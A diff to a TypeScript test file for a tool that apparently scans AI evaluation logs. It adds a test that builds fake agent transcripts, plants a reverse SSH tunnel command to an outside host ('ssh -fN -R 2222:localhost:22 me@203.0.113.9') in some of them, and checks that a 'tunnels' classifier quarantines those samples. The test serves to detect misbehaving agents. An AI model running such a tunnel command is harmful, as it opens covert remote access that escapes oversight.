@@ -3,12 +3,14 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { crc32, deflateRawSync } from 'node:zlib';
 import { beforeAll, describe, expect, test } from 'vitest';
+import { packagePath } from '../../src/package-path.ts';
 import { compress, loadCodecs } from '../../src/parquet/codec.ts';
 import { openFile } from '../../src/parquet/source.ts';
 import { evalSamples, listEvalSamples } from '../../src/pipeline/eval-log.ts';
 import type { RecordBlock } from '../../src/pipeline/split-records.ts';
 import { findPython } from '../support/python.ts';
 import { temporaryFolder } from '../support/temporary.ts';
+import { trajsieve } from '../support/trajsieve.ts';
 
 interface Member {
   readonly name: string;
@@ -129,7 +131,7 @@ describe('evalSamples', () => {
     expect(await read(file, 1)).toHaveLength(3);
     const some = await read(file, 1 << 20, { start: 1, end: 2 });
     expect(texts(some)).toEqual([sample(1)]);
-    expect([...some[0]!.lines]).toEqual([2]);
+    expect([...some[0]!.lines]).toEqual([1]);
   });
 
   test('where a name stands twice the later one counts', async () => {
@@ -207,6 +209,38 @@ describe('evalSamples', () => {
     const [block] = await read(write(zip(members)));
     expect(block!.damage!.get(0)).toMatch(/messages from 1 on are missing/);
   });
+});
+
+test('a run over a log accounts for every sample, and finds what was planted', () => {
+  const folder = temporaryFolder();
+  const file = join(folder, 'log.eval');
+  const sampleOf = (id: number): Member => {
+    const command = id % 10 === 3 ? 'ssh -fN -R 2222:localhost:22 me@203.0.113.9' : 'ls -la';
+    const call = { id: 'c', function: 'bash', arguments: { cmd: command }, type: 'function' };
+    const messages = [
+      { role: 'user', content: 'List the files.' },
+      { role: 'assistant', content: '', tool_calls: [call] },
+      { role: 'tool', content: 'a.txt', tool_call_id: 'c', function: 'bash' },
+    ];
+    const output = { model: 'test/model', choices: [] };
+    return {
+      name: `samples/${id}_epoch_1.json`,
+      text: JSON.stringify({ id, epoch: 1, input: 'x', target: 'y', messages, output }, null, 2),
+    };
+  };
+  const bytes = zip([...Array(30).keys()].map(sampleOf).map((one) => ({ ...one, method: 0 as const })));
+  bytes[bytes.indexOf('"id": 20')] = 0x21; // one sample no longer fits its checksum
+  writeFileSync(file, bytes);
+  const out = join(folder, 'out');
+  const classifiers = ['--classifiers', packagePath('classifiers/tunnels')];
+  const result = trajsieve(['run', file, '--out', out, '--json', ...classifiers]);
+  expect(result.stderr).toMatch(/checksum/);
+  const { rows } = JSON.parse(result.stdout) as { rows: Record<string, number> };
+  expect(rows).toMatchObject({ in: 30, kept: 26, quarantined: 3, unreadable: 1 });
+  expect(trajsieve(['verify', out]).status).toBe(0);
+  const inspection = trajsieve(['inspect', file]).stdout;
+  expect(inspection).toContain('inspect-sample');
+  expect(inspection).toContain('ls -la');
 });
 
 const python = findPython('zipfile');
